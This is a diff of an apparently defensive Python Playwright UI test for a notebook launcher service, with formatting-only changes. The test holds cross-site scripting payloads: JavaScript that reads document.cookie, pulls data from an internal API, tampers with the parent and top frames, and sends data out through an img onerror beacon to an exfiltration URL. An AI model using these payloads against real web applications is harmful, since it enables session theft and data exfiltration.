@@ -14,7 +14,7 @@ import httpx
 import pytest
 
 pytest.importorskip("playwright")
-from playwright.sync_api import expect  # noqa: E402
+from playwright.sync_api import expect
 
 from notebook_launcher.localservice.embedded import EmbeddedService
 from tests.functional.ui.conftest import (
@@ -167,8 +167,10 @@ var report = function (what, value) {{
 }};
 report("cookie", document.cookie);
 fetch("/ui/api/runs").then(function (r) {{ return r.text(); }})
-  .then(function (t) {{ report("api", t.slice(0, 200)); }}, function (e) {{ report("api-error", e); }});
-try {{ parent.document.body.setAttribute("data-pwned", "1"); }} catch (e) {{ report("parent", e); }}
+  .then(function (t) {{ report("api", t.slice(0, 200)); }},
+        function (e) {{ report("api-error", e); }});
+try {{ parent.document.body.setAttribute("data-pwned", "1"); }}
+catch (e) {{ report("parent", e); }}
 try {{ top.document.title = "pwned"; }} catch (e) {{ report("top", e); }}
 """
     onerror = f'<img src=x onerror="new Image().src=`{exfil}/onerror`">'
